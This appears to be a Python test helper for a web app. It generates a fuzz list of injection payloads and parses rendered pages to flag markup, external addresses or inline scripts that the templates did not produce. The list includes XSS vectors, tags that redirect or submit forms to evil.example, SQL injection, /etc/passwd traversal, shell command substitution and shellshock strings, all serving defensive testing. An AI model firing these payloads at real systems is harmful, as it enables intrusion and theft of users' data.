"""Texts that mean harm, and what a page may be made of that shows them."""

import html.parser
import itertools
import re

MARK = "alert(1)"
# What closes the place that a text may stand in: an element, an attribute of either quote, a comment, a script.
CLOSERS = ["", ">", "\">", "'>", "\" ", "' ", "-->", "</title>", "</textarea>", "</option></select>", "]]>", "</script>", "{{/",
           "\\\">", "&quot;>", "&#34;>", "`>", "</style>", "</dd></dl>", "%22%3E"]
PAYLOADS = [
    f"<script>{MARK}</script>", f"<ScRiPt src=data:,{MARK}></sCrIpT>", f"<img src=x onerror={MARK}>",
    f"<svg/onload={MARK}>", f"<svg><script>{MARK}</script></svg>", f"<iframe srcdoc='<script>{MARK}</script>'>",
    f"<a href=javascript:{MARK} id=x>x</a>",
    f"<details open ontoggle={MARK}>", f"<math><mtext></p><style><img src=x onerror={MARK}>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>", f"<object data=javascript:{MARK}>", f"<video><source onerror={MARK}>",
    f"<body onload={MARK}>", f"<input type=image src=x onerror={MARK}>", "<plaintext>", "<!--", "<![CDATA[",
    "<xmp>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>",
]
ATTRIBUTES = [f"{quote} {text}" for quote in ('"', "'", "", "\\\"", "&quot;")
              for text in (f"autofocus onfocus={MARK} tabindex=1 x=", f"onmouseover={MARK} x={quote}")]
OTHERS = [
    "{{root}}", "{{{svg}}}", "{{> head}}", "{{=<% %>=}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", f"javascript:{MARK}",
    f"data:text/html,<script>{MARK}</script>", "&lt;script&gt;", "&amp;amp;", "\\u003cscript\\u003e", "\\x3cscript\\x3e",
    "%3Cscript%3E", "%00", "%0d%0aSet-Cookie:%20a=b", "../../../../etc/passwd", "1;DROP TABLE api_key", "' OR '1'='1",
    "\" OR \"\"=\"", "`id`", "$(id)", "() { :;}; id", "%s%s%s%n", "=1+1", "@SUM(1)", "-1", "1e309", "NaN", "null", "undefined",
    "true", "0x7f", "9223372036854775808", "1/0", "Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "🐵🙈🙉🙊", "👩‍👩‍👧‍👦", "İIıi", "ﷺ",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮", "̡̞̓ͅI̗̘̦͝n͇͇͙v̮̫ok̲̫̙͈", "ʇunpıpıɔuı", "﷽", "ﬁ", "x" * 190,
    "CON", "file:///etc/passwd", "<>&\"'`", "a" + "<" * 80,
]


def strings():
    """Each payload behind each closer would be 480: every closer and every payload some times."""
    wheel = itertools.cycle(CLOSERS)
    made = [closer + payload for payload in PAYLOADS for closer in itertools.islice(wheel, 4)]
    return list(dict.fromkeys(made + ATTRIBUTES + OTHERS))


class Shape(html.parser.HTMLParser):
    """Elements and attributes of a page, as HTML is read."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.found, self.addresses, self.comments, self.bare_scripts, self.texts = set(), [], [], 0, []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found |= {tag} | {f"@{name}" for name, _ in attrs}
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction"):
                self.addresses.append(value or "")
            self.texts.append(value or "")
        if tag == "script" and "src" not in dict(attrs):
            self.bare_scripts += 1

    def handle_comment(self, data):
        self.comments.append(data)

    def handle_decl(self, decl):
        if decl.lower() != "doctype html":
            self.comments.append(decl)

    unknown_decl = handle_comment

    def handle_data(self, data):
        self.texts.append(data)


def vocabulary(source_directory):
    """The elements and attributes that the templates, and charts, are made of."""
    text = "".join(path.read_text() for path in sorted((source_directory / "templates" / "web").glob("*.html")))
    text += "<svg class viewBox role aria-label preserveAspectRatio><g><title><rect x y width height rx><line x1 x2 y1 y2>" \
            "<path d><text><polyline points><circle cx cy r>"
    return Shape(re.sub(r"\{\{[^}]*\}\}", "", text)).found


def faults(text, known):
    """What stands in the page that no template put there."""
    shape = Shape(text)
    wrong = sorted(shape.found - known) + shape.comments
    wrong += [address for address in shape.addresses
              if re.match(r"[\s\0-\x20]*([a-z][a-z0-9+.-]*:|//)", address, re.I) and not address.startswith("mailto:")]
    return wrong + ["<script>"] * shape.bare_scripts
